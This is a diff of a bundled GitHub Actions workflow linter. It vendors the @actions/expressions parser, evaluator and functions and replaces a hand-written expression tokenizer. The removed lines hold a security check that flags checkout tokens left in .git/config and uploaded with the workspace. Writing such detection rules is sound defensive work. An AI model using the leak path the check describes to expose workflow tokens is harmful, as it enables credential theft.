-                if (isFalse(pc))
-                    continue;
-                const expr = pc !== undefined && pc.includes('${{');
-                out.push(ctx.finding({
-                    message: packs.length
-                        ? `${code(s.step.uses.value)} keeps the token in \`.git/config\`, and ${code(packs[0].step.uses.value)} uploads the workspace with it`
-                        : `${code(s.step.uses.value)} keeps the token in \`.git/config\` for every later step of job ${code(site.job.id)}${expr ? ` (persist-credentials is ${code(pc)})` : ''}`,
-                    fix: 'Add `with: { persist-credentials: false }` to the checkout; a step that must push can be given the token explicitly.',
-                    ...atStep(s, s.step.uses.pos),
-                    ...(packs.length ? { severity: 'error' } : {}),
-                }));
+                }
+                // Left brace, number, optional format specifiers, right brace
+                if (rbrace > lbrace + 1) {
+                    const argIndex = readArgIndex(fs, lbrace + 1);
+                    if (argIndex.success) {
+                        // Check parameter count
+                        if (1 + argIndex.result > args.length - 1) {
+                            throw new Error(`The following format string references more arguments than were supplied: ${fs}`);
+                        }
+                        // Append the portion before the left brace
+                        if (lbrace > index) {
+                            result.push(fs.substr(index, lbrace - index));
+                        }
+                        // Append the arg
+                        result.push(`${args[1 + argIndex.result].coerceString()}`);
+                        index = rbrace + 1;
+                        continue;
+                    }
+                }
+                throw new Error(`The following format string is invalid: ${fs}`);
+            }
+            // Right brace
+            else if (rbrace >= 0) {
+                // Escaped right brace
+                if (safeCharAt(fs, rbrace + 1) === "}") {
+                    result.push(fs.substr(index, rbrace - index + 1));
+                    index = rbrace + 2;
+                }
+                else {
+                    throw new Error(`The following format string is invalid: ${fs}`);
+                }
+            }
+            // Last segment
+            else {
+                result.push(fs.substr(index));
+                break;
             }
         }
-        return out;
-    },
+        return new StringData(result.join(""));
+    }
 };
+function safeCharAt(string, index) {
+    if (string.length > index) {
+        return string[index];
+    }
+    return "\0";
+}
+function readArgIndex(string, startIndex) {
+    // Count the number of digits
+    let length = 0;
+    for (;;) {
+        const nextChar = safeCharAt(string, startIndex + length);
+        if (nextChar >= "0" && nextChar <= "9") {
+            length++;
+        }
+        else {
+            break;
+        }
+    }
+    // Validate at least one digit
+    if (length < 1) {
+        return {
+            success: false
+        };
+    }
+    // Parse the number
+    const endIndex = startIndex + length - 1;
+    const result = parseInt(string.substr(startIndex, length));
+    return {
+        success: !isNaN(result),
+        result: result,
+        endIndex: endIndex
+    };
+}
+//# sourceMappingURL=format.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/fromjson.js
 
+
+const fromjson = {
+    name: "fromJson",
+    description: "`fromJSON(value)`\n\nReturns a JSON object or JSON data type for `value`. You can use this function to provide a JSON object as an evaluated expression or to convert environment variables from a string.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        const input = args[0];
+        const is = input.coerceString();
+        if (is.trim() === "") {
+            throw new Error("empty input");
+        }
+        try {
+            return JSON.parse(is, reviver);
+        }
+        catch (e) {
+            throw new ExpressionEvaluationError("Error parsing JSON when evaluating fromJson", { cause: e });
+        }
+    }
+};
+//# sourceMappingURL=fromjson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/join.js
+
+const join = {
+    name: "join",
+    description: "`join( array, optionalSeparator )`\n\nThe value for `array` can be an array or a string. All values in `array` are concatenated into a string. If you provide `optionalSeparator`, it is inserted between the concatenated values. Otherwise, the default separator `,` is used. Casts values to a string.",
+    minArgs: 1,
+    maxArgs: 2,
+    call: (...args) => {
+        // Primitive
+        if (args[0].primitive) {
+            return new StringData(args[0].coerceString());
+        }
+        // Array
+        if (args[0].kind === expressiondata_Kind.Array) {
+            // Separator
+            let separator = ",";
+            if (args.length > 1 && args[1].primitive) {
+                separator = args[1].coerceString();
+            }
+            // Convert items to strings
+            return new StringData(args[0]
+                .values()
+                .map(item => item.coerceString())
+                .join(separator));
+        }
+        return new StringData("");
+    }
+};
+//# sourceMappingURL=join.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/startswith.js
+
+
+const startswith = {
+    name: "startsWith",
+    description: "`startsWith( searchString, searchValue )`\n\nReturns `true` when `searchString` starts with `searchValue`. This function is not case sensitive. Casts values to a string.",
+    minArgs: 2,
+    maxArgs: 2,
+    call: (...args) => {
+        const left = args[0];
+        if (!left.primitive) {
+            return new BooleanData(false);
+        }
+        const right = args[1];
+        if (!right.primitive) {
+            return new BooleanData(false);
+        }
+        const ls = toUpperSpecial(left.coerceString());
+        const rs = toUpperSpecial(right.coerceString());
+        return new BooleanData(ls.startsWith(rs));
+    }
+};
+//# sourceMappingURL=startswith.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs/tojson.js
+
+
+const tojson = {
+    name: "toJson",
+    description: "`toJSON(value)`\n\nReturns a pretty-print JSON representation of `value`. You can use this function to debug the information provided in contexts.",
+    minArgs: 1,
+    maxArgs: 1,
+    call: (...args) => {
+        return new StringData(JSON.stringify(args[0], replacer, "  "));
+    }
+};
+//# sourceMappingURL=tojson.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/funcs.js
+
+
+
+
+
+
+
+
+
+const funcs_wellKnownFunctions = {
+    case: caseFunc,
+    contains: contains,
+    endswith: endswith,
+    format: format,
+    fromjson: fromjson,
+    join: join,
+    startswith: startswith,
+    tojson: tojson
+};
+// validateFunction returns the function definition for the given function name.
+// If the function does not exist or an incorrect number of arguments is provided,
+// an error is returned.
+function validateFunction(context, identifier, argCount) {
+    // Expression function names are case-insensitive.
+    const name = identifier.lexeme.toLowerCase();
+    let f;
+    f = funcs_wellKnownFunctions[name];
+    if (!f) {
+        f = context.extensionFunctions.get(name);
+        if (!f) {
+            if (!context.allowUnknownKeywords) {
+                throw new ExpressionError(ErrorType.ErrorUnrecognizedFunction, identifier);
+            }
+            // Skip argument validation for unknown functions
+            return;
+        }
+    }
+    if (argCount < f.minArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooFewParameters, identifier);
+    }
+    if (argCount > f.maxArgs) {
+        throw new ExpressionError(ErrorType.ErrorTooManyParameters, identifier);
+    }
+    // case function requires an odd number of arguments
+    if (name === "case" && argCount % 2 === 0) {
+        throw new ExpressionError(ErrorType.ErrorEvenParameters, identifier);
+    }
+}
+//# sourceMappingURL=funcs.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/evaluator.js
+
+
+
+
+
+
+
+class evaluator_Evaluator {
+    /**
+     * Creates a new evaluator
+     * @param n Parsed expression to evaluate
+     * @param context Context data to use
+     * @param functions Optional map of function implementations. If given, these will be preferred over the built-in functions.
+     */
+    constructor(n, context, functions) {
+        this.n = n;
+        this.context = context;
+        this.functions = functions;
+    }
+    evaluate() {
+        return this.eval(this.n);
+    }
+    eval(n) {
+        return n.accept(this);
+    }
+    visitLiteral(literal) {
+        return literal.literal;
+    }
+    visitUnary(unary) {
+        const r = this.eval(unary.expr);
+        if (unary.operator.type === TokenType.BANG) {
+            return new data.BooleanData(falsy(r));
+        }
+        throw new Error(`unknown unary operator: ${unary.operator.lexeme}`);
+    }
+    visitBinary(binary) {
+        const left = this.eval(binary.left);
+        const right = this.eval(binary.right);
+        switch (binary.operator.type) {
+            case TokenType.EQUAL_EQUAL:
+                return new data.BooleanData(equals(left, right));
+            case TokenType.BANG_EQUAL:
+                return new data.BooleanData(!equals(left, right));
+            case TokenType.GREATER:
+                return new data.BooleanData(greaterThan(left, right));
+            case TokenType.GREATER_EQUAL:
+                return new data.BooleanData(equals(left, right) || greaterThan(left, right));
+            case TokenType.LESS:
+                return new data.BooleanData(lessThan(left, right));
+            case TokenType.LESS_EQUAL:
+                return new data.BooleanData(equals(left, right) || lessThan(left, right));
+        }
+        throw new Error(`unknown binary operator: ${binary.operator.lexeme}`);
+    }
+    visitLogical(logical) {
+        let result;
+        for (const arg of logical.args) {
+            result = this.eval(arg);
+            // Break?
+            if ((logical.operator.type === TokenType.AND && falsy(result)) ||
+                (logical.operator.type === TokenType.OR && truthy(result))) {
+                break;
+            }
+        }
+        // result is always assigned before we return here
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        return result;
+    }
+    visitGrouping(grouping) {
+        return this.eval(grouping.group);
+    }
+    visitContextAccess(contextAccess) {
+        // eslint-disable-next-line @typescript-eslint/no-non-null-assertion
+        const r = this.context.get(contextAccess.name.lexeme);
+        return r;
+    }
+    visitIndexAccess(ia) {
+        let idx;
+        if (ia.index instanceof Star) {
+            idx = new idxHelper(true, undefined);
+        }
+        else {
+            let idxResult;
+            try {
+                idxResult = this.eval(ia.index);
+            }
+            catch (e) {
+                throw new Error(`could not evaluate index for index access: ${e.message}`, { cause: e });
+            }
+            idx = new idxHelper(false, idxResult);
+        }
+        const objResult = this.eval(ia.expr);
+        let result;
+        switch (objResult.kind) {
+            case data.Kind.Array: {
+                const tobjResult = objResult;
+                if (tobjResult instanceof FilteredArray) {
+                    result = filteredArrayAccess(tobjResult, idx);
+                }
+                else {
+                    result = arrayAccess(tobjResult, idx);
+                }
+                break;
+            }
+            case data.Kind.Dictionary: {
+                const tobjResult = objResult;
+                result = objectAccess(tobjResult, idx);
+                break;
+            }
+            default:
+                if (idx.star) {
+                    result = new FilteredArray();
+                }
+                else {
+                    result = new data.Null();
+                }
+        }
+        return result;
+    }
+    visitFunctionCall(functionCall) {
+        // Evaluate arguments
+        const args = functionCall.args.map(arg => this.eval(arg));
+        // Get function definitions
+        const functionName = functionCall.functionName.lexeme.toLowerCase();
+        const f = this.functions?.get(functionName) || wellKnownFunctions[functionName];
+        return f.call(...args);
+    }
+}
+function filteredArrayAccess(fa, idx) {
+    const result = new FilteredArray();
+    for (const item of fa.values()) {
+        // Check the type of the nested item
+        switch (item.kind) {
+            case data.Kind.Dictionary: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.str !== undefined) {
+                    const v = ti.get(idx.str);
+                    if (v !== undefined) {
+                        result.add(v);
+                    }
+                }
+                break;
+            }
+            case data.Kind.Array: {
+                const ti = item;
+                if (idx.star) {
+                    for (const v of ti.values()) {
+                        result.add(v);
+                    }
+                }
+                else if (idx.int !== undefined && idx.int < ti.values().length) {
+                    result.add(ti.get(idx.int));
+                }
+                break;
+            }
+        }
+    }
+    return result;
+}
+function arrayAccess(a, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray();
+        for (const item of a.values()) {
+            fa.add(item);
+        }
+        return fa;
+    }
+    if (idx.int !== undefined && idx.int < a.values().length) {
+        return a.get(idx.int);
+    }
+    return new data.Null();
+}
+function objectAccess(obj, idx) {
+    if (idx.star) {
+        const fa = new FilteredArray(...obj.values());
+        return fa;
+    }
+    if (idx.str !== undefined) {
+        const r = obj.get(idx.str);
+        if (r !== undefined) {
+            return r;
+        }
+    }
+    return new data.Null();
+}
+//# sourceMappingURL=evaluator.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/parser.js
+
+
+
+
+
+class parser_Parser {
+    /**
+     * Constructs a new parser for the given tokens
+     *
+     * @param tokens Tokens to build a parse tree from
+     * @param extensionContexts Available context names
+     * @param extensionFunctions Available functions (beyond the built-in ones)
+     */
+    constructor(tokens, extensionContexts, extensionFunctions) {
+        this.tokens = tokens;
+        this.offset = 0;
+        this.depth = 0;
+        this.extContexts = new Map();
+        this.extFuncs = new Map();
+        for (const contextName of extensionContexts) {
+            this.extContexts.set(contextName.toLowerCase(), true);
+        }
+        for (const { name, func } of extensionFunctions.map(x => ({
+            name: x.name,
+            func: x
+        }))) {
+            this.extFuncs.set(name.toLowerCase(), func);
+        }
+        this.context = {
+            allowUnknownKeywords: false,
+            extensionContexts: this.extContexts,
+            extensionFunctions: this.extFuncs
+        };
+    }
+    parse() {
+        // eslint-disable-next-line prefer-const
+        let result;
+        // No tokens
+        if (this.atEnd()) {
+            return result;
+        }
+        result = this.expression();
+        if (!this.atEnd()) {
+            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+        }
+        return result;
+    }
+    expression() {
+        this.incrDepth();
+        try {
+            return this.logicalOr();
+        }
+        finally {
+            this.decrDepth();
+        }
+    }
+    logicalOr() {
+        // && is higher precedence than ||
+        let expr = this.logicalAnd();
+        if (this.check(lexer_TokenType.OR)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.OR)) {
+                    const right = this.logicalAnd();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    logicalAnd() {
+        // == and != are higher precedence than &&
+        let expr = this.equality();
+        if (this.check(lexer_TokenType.AND)) {
+            // Track depth
+            this.incrDepth();
+            try {
+                const logical = new Logical(this.peek(), [expr]);
+                expr = logical;
+                while (this.match(lexer_TokenType.AND)) {
+                    const right = this.equality();
+                    logical.args.push(right);
+                }
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return expr;
+    }
+    equality() {
+        // >, >=, <, <= are higher precedence than == and !=
+        let expr = this.comparison();
+        while (this.match(lexer_TokenType.BANG_EQUAL, lexer_TokenType.EQUAL_EQUAL)) {
+            const operator = this.previous();
+            const right = this.comparison();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    comparison() {
+        // ! is higher precedence than >, >=, <, <=
+        let expr = this.unary();
+        while (this.match(lexer_TokenType.GREATER, lexer_TokenType.GREATER_EQUAL, lexer_TokenType.LESS, lexer_TokenType.LESS_EQUAL)) {
+            const operator = this.previous();
+            const right = this.unary();
+            expr = new Binary(expr, operator, right);
+        }
+        return expr;
+    }
+    unary() {
+        if (this.match(lexer_TokenType.BANG)) {
+            // Track depth
+            this.incrDepth();
+            const operator = this.previous();
+            const unary = this.unary();
+            try {
+                return new Unary(operator, unary);
+            }
+            finally {
+                this.decrDepth();
+            }
+        }
+        return this.index();
+    }
+    index() {
+        let expr = this.call();
+        let depthIncreased = 0;
+        if (expr instanceof Grouping || expr instanceof FunctionCall || expr instanceof ContextAccess) {
+            let cont = true;
+            while (cont) {
+                switch (true) {
+                    case this.match(lexer_TokenType.LEFT_BRACKET): {
+                        let indexExpr;
+                        if (this.match(lexer_TokenType.STAR)) {
+                            indexExpr = new ast_Star();
+                        }
+                        else {
+                            indexExpr = this.expression();
+                        }
+                        this.consume(lexer_TokenType.RIGHT_BRACKET, ErrorType.ErrorUnexpectedSymbol);
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        expr = new IndexAccess(expr, indexExpr);
+                        break;
+                    }
+                    case this.match(lexer_TokenType.DOT):
+                        // Track depth
+                        this.incrDepth();
+                        depthIncreased++;
+                        if (this.match(lexer_TokenType.IDENTIFIER)) {
+                            const property = this.previous();
+                            expr = new IndexAccess(expr, new Literal(new StringData(property.lexeme), property));
+                        }
+                        else if (this.match(lexer_TokenType.STAR)) {
+                            expr = new IndexAccess(expr, new ast_Star());
+                        }
+                        else {
+                            throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+                        }
+                        break;
+                    default:
+                        cont = false;
+                }
+            }
+        }
+        for (let i = 0; i < depthIncreased; i++) {
+            this.decrDepth();
+        }
+        return expr;
+    }
+    call() {
+        if (!this.check(lexer_TokenType.IDENTIFIER)) {
+            return this.primary();
+        }
+        const identifier = this.next();
+        if (!this.match(lexer_TokenType.LEFT_PAREN)) {
+            if (!this.extContexts.has(identifier.lexeme.toLowerCase())) {
+                throw this.buildError(ErrorType.ErrorUnrecognizedContext, identifier);
+            }
+            return new ContextAccess(identifier);
+        }
+        // Function call
+        const args = [];
+        // Arguments
+        while (!this.match(lexer_TokenType.RIGHT_PAREN)) {
+            const aexp = this.expression();
+            args.push(aexp);
+            if (!this.check(lexer_TokenType.RIGHT_PAREN)) {
+                this.consume(lexer_TokenType.COMMA, ErrorType.ErrorUnexpectedSymbol);
+            }
+        }
+        validateFunction(this.context, identifier, args.length);
+        return new FunctionCall(identifier, args);
+    }
+    primary() {
+        switch (true) {
+            case this.match(lexer_TokenType.FALSE):
+                return new Literal(new BooleanData(false), this.previous());
+            case this.match(lexer_TokenType.TRUE):
+                return new Literal(new BooleanData(true), this.previous());
+            case this.match(lexer_TokenType.NULL):
+                return new Literal(new Null(), this.previous());
+            case this.match(lexer_TokenType.NUMBER):
+                return new Literal(new NumberData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.STRING):
+                return new Literal(new StringData(this.previous().value), this.previous());
+            case this.match(lexer_TokenType.LEFT_PAREN): {
+                const expr = this.expression();
+                if (this.atEnd()) {
+                    throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+                }
+                this.consume(lexer_TokenType.RIGHT_PAREN, ErrorType.ErrorUnexpectedSymbol);
+                return new Grouping(expr);
+            }
+            case this.atEnd():
+                throw this.buildError(ErrorType.ErrorUnexpectedEndOfExpression, this.previous()); // Back up to get the last token before the EOF
+        }
+        throw this.buildError(ErrorType.ErrorUnexpectedSymbol, this.peek());
+    }
+    // match consumes the next token if it matches any of the given types
+    match(...tokenTypes) {
+        for (const tokenType of tokenTypes) {
+            if (this.check(tokenType)) {
+                this.next();
+                return true;
+            }
+        }
+        return false;
+    }
+    // check peeks whether the next token is of the given type
+    check(tokenType) {
+        if (this.atEnd()) {
+            return false;
+        }
+        return this.peek().type == tokenType;
+    }
+    // atEnd peeks whether the next token is EOF
+    atEnd() {
+        return this.peek().type == lexer_TokenType.EOF;
+    }
+    next() {
+        if (!this.atEnd()) {
+            this.offset++;
+        }
+        return this.previous();
+    }
+    peek() {
+        return this.tokens[this.offset];
+    }
+    // previous returns the previous token
+    previous() {
+        return this.tokens[this.offset - 1];
+    }
+    // consume attempts to consume the next token if it matches the given type. It returns an error of
+    // the given ParseErrorKind otherwise.
+    consume(tokenType, errorType) {
+        if (this.check(tokenType)) {
+            this.next();
+            return;
+        }
+        throw this.buildError(errorType, this.peek());
+    }
+    incrDepth() {
+        this.depth++;
+        if (this.depth > MAX_PARSER_DEPTH) {
+            throw this.buildError(ErrorType.ErrorExceededMaxDepth, this.peek());
+        }
+    }
+    decrDepth() {
+        this.depth--;
+    }
+    buildError(errType, token) {
+        return new ExpressionError(errType, token);
+    }
+}
+//# sourceMappingURL=parser.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion.js
+
+
+
+
+
+
+/**
+ * Complete returns a list of completion items for the given expression.
+ * The main functionality is auto-completing functions and context access:
+ * We can only provide assistance if the input is in one of the following forms (with | denoting the cursor position):
+ * - context.path.inp| or context.path['inp| -- auto-complete context access
+ * - context.path.| or context.path['| -- auto-complete context access
+ * - toJS| -- auto-complete function call or top-level
+ * - | -- auto-complete function call or top-level context access
+ *
+ * @param input Input expression
+ * @param context Context available for the expression
+ * @param extensionFunctions List of functions available
+ * @param functions Optional map of functions to use during evaluation
+ * @param featureFlags Optional feature flags to control which features are enabled
+ * @returns Array of completion items
+ */
+function complete(input, context, extensionFunctions, functions, featureFlags) {
+    // Lex
+    const lexer = new Lexer(input);
+    const lexResult = lexer.lex();
+    // Find interesting part of the tokenVector. For example, for an expression like `github.actor == env.actor.log|`, we are
+    // only interested in the `env.actor.log` part for auto-completion
+    const tokenInputVector = trimTokenVector(lexResult.tokens);
+    // Start by skipping the EOF token
+    let tokenIdx = tokenInputVector.length - 2;
+    if (tokenIdx >= 0) {
+        switch (tokenInputVector[tokenIdx].type) {
+            // If there is a (partial) identifier under the cursor, ignore that
+            case TokenType.IDENTIFIER:
+                tokenIdx--;
+                break;
+            case TokenType.STRING:
+                // TODO: Support string for `context.name['test|`
+                return [];
+        }
+    }
+    if (tokenIdx < 0) {
+        // Vector only contains the EOF token. Suggest functions and root context access
+        const result = contextKeys(context);
+        // Merge with functions
+        result.push(...functionItems(extensionFunctions, featureFlags));
+        return result;
+    }
+    // Determine path that led to the last token
+    // Use parser & evaluator to determine context to complete.
+    const pathTokenVector = tokenInputVector.slice(0, tokenIdx);
+    // Include the original EOF token to make the parser happy
+    pathTokenVector.push(tokenInputVector[tokenInputVector.length - 1]);
+    const p = new Parser(pathTokenVector, context.pairs().map(x => x.key), extensionFunctions);
+    const expr = p.parse();
+    const ev = new Evaluator(expr, context, functions);
+    const result = ev.evaluate();
+    return contextKeys(result);
+}
+function functionItems(extensionFunctions, featureFlags) {
+    const result = [];
+    const flags = featureFlags ?? new FeatureFlags();
+    for (const fdef of [...Object.values(wellKnownFunctions), ...extensionFunctions]) {
+        // Filter out case function if feature is disabled
+        if (fdef.name === "case" && !flags.isEnabled("allowCaseFunction")) {
+            continue;
+        }
+        result.push({
+            label: fdef.name,
+            description: fdef.description,
+            function: true
+        });
+    }
+    // Sort functions
+    result.sort((a, b) => a.label.localeCompare(b.label));
+    return result;
+}
+function contextKeys(context) {
+    if (isDictionary(context)) {
+        return (context
+            .pairs()
+            .map(x => completionItemFromContext(x))
+            // Sort contexts
+            .sort((a, b) => a.label.localeCompare(b.label)));
+    }
+    return [];
+}
+function completionItemFromContext(pair) {
+    const context = pair.key.toString();
+    const parenIndex = context.indexOf("(");
+    const isFunc = parenIndex >= 0 && context.indexOf(")") >= 0;
+    return {
+        label: isFunc ? context.substring(0, parenIndex) : context,
+        description: pair.description,
+        function: isFunc
+    };
+}
+function trimTokenVector(tokenVector) {
+    let tokenIdx = tokenVector.length;
+    let openParen = 0;
+    while (tokenIdx > 0) {
+        const token = tokenVector[tokenIdx - 1];
+        switch (token.type) {
+            case TokenType.LEFT_PAREN:
+                if (openParen == 0) {
+                    // Encountered an open parenthesis without a closing first, stop here
+                    break;
+                }
+                openParen--;
+                tokenIdx--;
+                continue;
+            case TokenType.RIGHT_PAREN:
+                openParen++;
+                tokenIdx--;
+                continue;
+            case TokenType.IDENTIFIER:
+            case TokenType.DOT:
+            case TokenType.EOF:
+            case TokenType.LEFT_BRACKET:
+            case TokenType.RIGHT_BRACKET:
+            case TokenType.STRING:
+                tokenIdx--;
+                continue;
+        }
+        break;
+    }
+    // Only keep the part of the token vector we're interested in
+    return tokenVector.slice(tokenIdx);
+}
+//# sourceMappingURL=completion.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/completion/descriptionDictionary.js
+
+
+function isDescriptionDictionary(x) {
+    return x.kind === Kind.Dictionary && x instanceof DescriptionDictionary;
+}
+class DescriptionDictionary extends Dictionary {
+    constructor(...pairs) {
+        super();
+        this.descriptions = new Map();
+        this.complete = true;
+        for (const p of pairs) {
+            this.add(p.key, p.value, p.description);
+        }
+    }
+    add(key, value, description) {
+        if (this.get(key) !== undefined) {
+            // Key already added, ignore
+            return;
+        }
+        super.add(key, value);
+        if (description) {
+            this.descriptions.set(key, description);
+        }
+    }
+    pairs() {
+        const pairs = super.pairs();
+        return pairs.map(p => ({ ...p, description: this.descriptions.get(p.key) }));
+    }
+    getDescription(key) {
+        return this.descriptions.get(key);
+    }
+}
+//# sourceMappingURL=descriptionDictionary.js.map
+;// CONCATENATED MODULE: ./node_modules/@actions/expressions/dist/index.js
+
+
+
+
+
+
+
+
+
+
+//# sourceMappingURL=index.js.map
 ;// CONCATENATED MODULE: ./src/workflow/expr.ts
 /**
  * GitHub Actions expressions: a parser and a three-valued evaluator.
@@ -32039,164 +34500,78 @@ const rule = {
  * shape of `github.ref` — and keeps everything else unknown. Unknown is never taken as false:
  * a condition that cannot be decided counts as "may run".
  */
+
+
+
 class ExprError extends Error {
 }
-function tokenize(src) {
-    const out = [];
-    let i = 0;
-    while (i < src.length) {
-        const c = src[i];
-        if (/\s/.test(c)) {
-            i++;
-            continue;
-        }
-        if (c === "'") {
-            let j = i + 1;
-            let s = '';
-            for (;;) {
-                if (j >= src.length)
-                    throw new ExprError('unterminated string');
-                if (src[j] === "'") {
-                    if (src[j + 1] === "'") {
-                        s += "'";
-                        j += 2;
-                        continue;
-                    }
-                    break;
-                }
-                s += src[j++];
-            }
-            out.push({ t: 'str', v: s, pos: i });
-            i = j + 1;
-            continue;
-        }
-        const two = src.slice(i, i + 2);
-        if (['==', '!=', '<=', '>=', '&&', '||'].includes(two)) {
-            out.push({ t: 'op', v: two, pos: i });
-            i += 2;
-            continue;
-        }
-        if ('!<>()[],.*'.includes(c)) {
-            out.push({ t: 'op', v: c, pos: i });
-            i++;
-            continue;
-        }
-        const num = /^(?:0x[0-9a-fA-F]+|-?\d+(?:\.\d+)?(?:[eE][+-]?\d+)?)/.exec(src.slice(i));
-        if (num && !(out.length && out[out.length - 1].v === '.')) {
-            out.push({ t: 'num', v: num[0], pos: i });
-            i += num[0].length;
-            continue;
-        }
-        const id = /^[A-Za-z_][A-Za-z0-9_-]*/.exec(src.slice(i));
-        if (id) {
-            out.push({ t: 'id', v: id[0], pos: i });
-            i += id[0].length;
-            continue;
-        }
-        throw new ExprError(`unexpected character '${c}'`);
-    }
-    out.push({ t: 'end', v: '', pos: src.length });
-    return out;
+/** The contexts a workflow may name (docs.github.com, "Contexts"). */
+const CONTEXTS = ['github', 'env', 'vars', 'secrets', 'inputs', 'matrix', 'strategy', 'needs', 'steps', 'job', 'jobs', 'runner'];
+/** Status functions and hashFiles, beyond the library's own functions. */
+const FUNCTIONS = [
+    { name: 'always', minArgs: 0, maxArgs: 0 },
+    { name: 'success', minArgs: 0, maxArgs: 0 },
+    { name: 'failure', minArgs: 0, maxArgs: 0 },
+    { name: 'cancelled', minArgs: 0, maxArgs: 0 },
+    { name: 'hashFiles', minArgs: 1, maxArgs: 255 },
+];
+/** Longest expression parsed; GitHub's own limit is 21,000 characters per expression. */
+const MAX_EXPRESSION = 21_000;
+function fromData(d) {
+    return JSON.parse(JSON.stringify(d, replacer));
 }
-const PREC = { '||': 1, '&&': 2, '==': 3, '!=': 3, '<': 4, '<=': 4, '>': 4, '>=': 4 };
-/** Parse one expression (without `${{ }}`). Throws ExprError on malformed input. */
+function toData(v) {
+    return JSON.parse(JSON.stringify(v), reviver);
+}
+/**
+ * GitHub's syntax tree to ours. Context and property names are case-insensitive to GitHub,
+ * so they are lower-cased here, except the names of `env` variables, which are not.
+ */
+function convert(n, underEnv) {
+    if (n instanceof Literal)
+        return { k: 'lit', v: fromData(n.literal) };
+    if (n instanceof Grouping)
+        return convert(n.group, underEnv);
+    if (n instanceof Unary)
+        return { k: 'not', e: convert(n.expr, false) };
+    if (n instanceof Binary)
+        return { k: 'bin', op: n.operator.lexeme, a: convert(n.left, false), b: convert(n.right, false) };
+    if (n instanceof Logical) {
+        const op = n.operator.lexeme === '&&' ? '&&' : '||';
+        return n.args.map((a) => convert(a, false)).reduce((a, b) => ({ k: 'bin', op, a, b }));
+    }
+    if (n instanceof ContextAccess)
+        return { k: 'ctx', name: n.name.lexeme.toLowerCase() };
+    if (n instanceof FunctionCall)
+        return { k: 'call', fn: n.functionName.lexeme.toLowerCase(), args: n.args.map((a) => convert(a, false)) };
+    if (n instanceof IndexAccess) {
+        const obj = convert(n.expr, underEnv);
+        const isEnv = obj.k === 'ctx' && obj.name === 'env';
+        if (n.index instanceof ast_Star)
+            return { k: 'prop', obj, key: '*' };
+        if (n.index instanceof Literal && n.index.literal.kind === expressiondata_Kind.String) {
+            const key = n.index.literal.value;
+            return { k: 'prop', obj, key: isEnv ? key : key.toLowerCase() };
+        }
+        return { k: 'index', obj, index: convert(n.index, false) };
+    }
+    throw new ExprError('unsupported expression');
+}
+/** Parse one expression (without `${{ }}`) with GitHub's parser. Throws ExprError on malformed input. */
 function parseExpr(src) {
-    const toks = tokenize(src);
-    let p = 0;
-    let depth = 0;
-    const peek = () => toks[p];
-    const next = () => toks[p++];
-    const expect = (v) => {
-        const t = next();
-        if (t.v !== v || t.t === 'str')
-            throw new ExprError(`expected '${v}' at ${t.pos}`);
-    };
-    const primary = () => {
-        if (++depth > 100)
-            throw new ExprError('expression nested too deeply');
-        try {
-            const t = next();
-            if (t.t === 'op' && t.v === '!')
-                return { k: 'not', e: postfix(primary()) };
-            if (t.t === 'op' && t.v === '(') {
-                const e = binary(0);
-                expect(')');
-                return e;
-            }
-            if (t.t === 'str')
-                return { k: 'lit', v: t.v };
-            if (t.t === 'num')
-                return { k: 'lit', v: Number(t.v) };
-            if (t.t === 'id') {
-                if (t.v === 'true' || t.v === 'false')
-                    return { k: 'lit', v: t.v === 'true' };
-                if (t.v === 'null')
-                    return { k: 'lit', v: null };
-                if (peek().v === '(' && peek().t === 'op') {
-                    next();
-                    const args = [];
-                    if (!(peek().t === 'op' && peek().v === ')')) {
-                        for (;;) {
-                            args.push(binary(0));
-                            if (peek().t === 'op' && peek().v === ',') {
-                                next();
-                                continue;
-                            }
-                            break;
-                        }
-                    }
-                    expect(')');
-                    return { k: 'call', fn: t.v.toLowerCase(), args };
-                }
-                return { k: 'ctx', name: t.v };
-            }
-            throw new ExprError(`unexpected '${t.v || 'end'}' at ${t.pos}`);
-        }
-        finally {
-            depth--;
-        }
-    };
-    const postfix = (e) => {
-        for (;;) {
-            const t = peek();
-            if (t.t === 'op' && t.v === '.') {
-                next();
-                const k = next();
-                if (k.t === 'id')
-                    e = { k: 'prop', obj: e, key: k.v };
-                else if (k.t === 'op' && k.v === '*')
-                    e = { k: 'prop', obj: e, key: '*' };
-                else if (k.t === 'num' && /^\d+$/.test(k.v))
-                    e = { k: 'index', obj: e, index: { k: 'lit', v: Number(k.v) } };
-                else
-                    throw new ExprError(`expected a property name at ${k.pos}`);
-            }
-            else if (t.t === 'op' && t.v === '[') {
-                next();
-                const idx = peek().t === 'op' && peek().v === '*' ? (next(), null) : binary(0);
-                expect(']');
-                e = idx === null ? { k: 'prop', obj: e, key: '*' } : { k: 'index', obj: e, index: idx };
-            }
-            else
-                return e;
-        }
-    };
-    const binary = (min) => {
-        let left = postfix(primary());
-        for (;;) {
-            const t = peek();
